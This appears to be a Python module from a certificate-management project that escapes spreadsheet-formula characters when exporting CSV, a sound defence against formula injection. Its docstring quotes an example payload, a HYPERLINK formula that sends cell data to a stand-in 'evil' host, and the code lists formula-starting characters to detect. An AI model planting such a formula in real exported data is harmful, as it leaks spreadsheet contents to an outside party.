"""CSV export that spreadsheets cannot turn into formulas (CSV or formula injection).

A spreadsheet treats a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a tab or
a carriage return) as a formula, so a certificate label like ``=HYPERLINK("http://evil/?"&A1)`` in an
exported CSV would run when an auditor opens the file. ``safe_cell`` prefixes such text with an
apostrophe (OWASP's advice), which spreadsheets show but do not evaluate; numbers, booleans and dates
are left as they are. Everything else is written literally, quoting included (the ``csv`` module).

    from certlab.csvsafe import to_csv
    data = to_csv(["name", "label"], [[r.name, r.label] for r in inv.list()])
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: Any) -> Any:
    """The value to write in a CSV cell: text that a spreadsheet would evaluate gets a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return value
    if isinstance(value, dt.datetime | dt.date):
        return value.isoformat()
    if isinstance(value, list | tuple | set | frozenset):
        value = ", ".join(str(v) for v in value)
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def write_csv(fh: Any, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> None:
    """Write a header and rows to an open text file (``newline=""``), every cell through ``safe_cell``."""
    writer = csv.writer(fh, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])


def to_csv(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """The CSV document as UTF-8 bytes (with a BOM, so spreadsheets read non-ASCII text correctly)."""
    buf = io.StringIO(newline="")
    write_csv(buf, header, rows)
    return ("\ufeff" + buf.getvalue()).encode("utf-8")


def records_to_csv(records: Iterable[Mapping[str, Any]], columns: Sequence[str] | None = None) -> bytes:
    """CSV of dictionaries (for instance ``record.to_json()`` of each certificate)."""
    items = list(records)
    cols = list(columns) if columns is not None else (list(items[0]) if items else [])
    return to_csv(cols, ([item.get(c) for c in cols] for item in items))


__all__ = ["FORMULA_STARTS", "records_to_csv", "safe_cell", "to_csv", "write_csv"]
